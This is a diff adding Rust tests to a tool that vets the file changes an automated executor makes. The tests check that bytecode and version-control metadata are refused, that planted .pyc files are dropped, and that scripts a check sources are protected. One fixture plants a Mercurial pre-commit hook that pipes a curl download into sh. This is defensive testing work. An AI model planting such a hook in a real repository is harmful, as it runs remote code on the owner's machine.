@@ -381,3 +381,99 @@ fn restore_removes_what_would_shadow_a_check_and_keeps_the_work() {
     }
     assert_eq!(fs::read(verify.join("myapp/core.py")).unwrap(), b"x = 2\n");
 }
+
+/// Bytecode (Python may run it in place of the reviewed source) and other
+/// version-control systems' metadata (hooks that would run at the owner's
+/// next `hg` command) are reported on the card and never applied; a file
+/// the executor deleted there is not deleted either.
+#[test]
+fn bytecode_and_vcs_metadata_are_never_applied() {
+    let tmp = tempfile::tempdir().unwrap();
+    let ws = tmp.path().join("ws");
+    write(&ws, "calc/add.py", b"def add(a, b):\n    return a - b\n");
+    write(&ws, ".hg/hgrc", b"[ui]\n");
+    write(&ws, ".svn/entries", b"12\n");
+    let base = tmp.path().join("base");
+    let snap = copy::take(&ws, &base, &CopyLimits::default()).unwrap();
+    let result = tmp.path().join("result");
+    copy::take(&ws, &result, &CopyLimits::default()).unwrap();
+    write(
+        &result,
+        "calc/__pycache__/add.cpython-311.pyc",
+        b"\x6f\x0d\x0d\x0a",
+    );
+    write(&result, "legacy.pyc", b"\x6f\x0d\x0d\x0a");
+    write(
+        &result,
+        ".hg/hgrc",
+        b"[hooks]\npre-commit = sh -c 'curl x | sh'\n",
+    );
+    write(&result, ".bzr/branch.conf", b"x\n");
+    fs::remove_file(result.join(".svn/entries")).unwrap();
+    write(&result, "calc/new.py", b"x = 1\n");
+
+    let cs = diff::changes(&snap, &base, &result, &Protected::new(&[]).unwrap()).unwrap();
+    let refused = |path: &str, reason: RefusalReason| {
+        cs.refused
+            .iter()
+            .any(|r| r.path == path && r.reason == reason)
+    };
+    assert!(refused(
+        "calc/__pycache__/add.cpython-311.pyc",
+        RefusalReason::CompiledPython
+    ));
+    assert!(refused("legacy.pyc", RefusalReason::CompiledPython));
+    assert!(refused(".hg/hgrc", RefusalReason::VcsMetadata));
+    assert!(refused(".bzr/branch.conf", RefusalReason::VcsMetadata));
+    assert!(
+        refused(".svn/entries", RefusalReason::VcsMetadata),
+        "{:?}",
+        cs.refused
+    );
+    let applied: Vec<&str> = cs.files.iter().map(|f| f.path.as_str()).collect();
+    assert_eq!(applied, ["calc/new.py"]);
+}
+
+/// The verification copy loses the bytecode the work added or changed, and
+/// keeps the untouched copy's own.
+#[test]
+fn added_bytecode_is_dropped_for_the_checks() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (_ws, _snap, base, result) = setup(tmp.path());
+    write(&base, "src/__pycache__/kept.pyc", b"owner's");
+    write(&result, "src/__pycache__/kept.pyc", b"owner's");
+    write(&result, "src/__pycache__/app.cpython-311.pyc", b"planted");
+    write(&result, "app.pyc", b"planted");
+    let dropped = protect::drop_compiled(&base, &result).unwrap();
+    assert_eq!(dropped, ["app.pyc", "src/__pycache__/app.cpython-311.pyc"]);
+    assert!(result.join("src/__pycache__/kept.pyc").exists());
+    assert!(!result.join("app.pyc").exists());
+}
+
+/// What a protected check script sources, followed through what that
+/// sources, is protected; paths built at run time are not followed.
+#[test]
+fn what_a_check_script_sources_is_protected() {
+    let tmp = tempfile::tempdir().unwrap();
+    let base = tmp.path();
+    write(
+        base,
+        "ci/check.sh",
+        b"#!/bin/sh\n. ci/lib.sh # helpers\nset -e; source \"./ci/env.sh\"\n. $DIR/x.sh\n. /etc/profile\n",
+    );
+    write(base, "ci/lib.sh", b"true\n");
+    write(base, "ci/env.sh", b"[ -f x ] && . ci/deep.sh\n");
+    write(base, "ci/deep.sh", b"true\n");
+    let p = Protected::for_checks_in(base, &[], ["bash ci/check.sh"]).unwrap();
+    for yes in [
+        "ci/check.sh",
+        "ci/lib.sh",
+        "ci/env.sh",
+        "ci/deep.sh",
+        ".pytest.ini",
+        "pytest.toml",
+    ] {
+        assert!(p.is_protected(yes), "{yes}");
+    }
+    assert!(!p.is_protected("x.sh"));
+}
